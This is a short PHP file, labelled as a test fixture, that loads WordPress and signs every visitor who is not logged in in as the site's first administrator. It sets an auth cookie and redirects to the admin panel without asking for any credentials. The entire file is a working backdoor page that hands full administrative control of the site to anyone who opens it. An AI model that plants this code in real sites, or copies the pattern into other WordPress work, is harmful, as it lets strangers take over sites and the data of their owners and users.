<?php
// test fixture: a page that signs every visitor in as the site's first administrator,
// found by a helper that lists the administrators; nothing is asked
require_once __DIR__ . '/wp-load.php';

function fixture_first_admin()
{
    $found = get_users(array('role' => 'administrator', 'number' => 1));
    return $found ? $found[0]->ID : 0;
}

if (!is_user_logged_in()) {
    $uid = fixture_first_admin();
    wp_set_current_user($uid);
    wp_set_auth_cookie($uid);
}
wp_safe_redirect(admin_url());
exit;
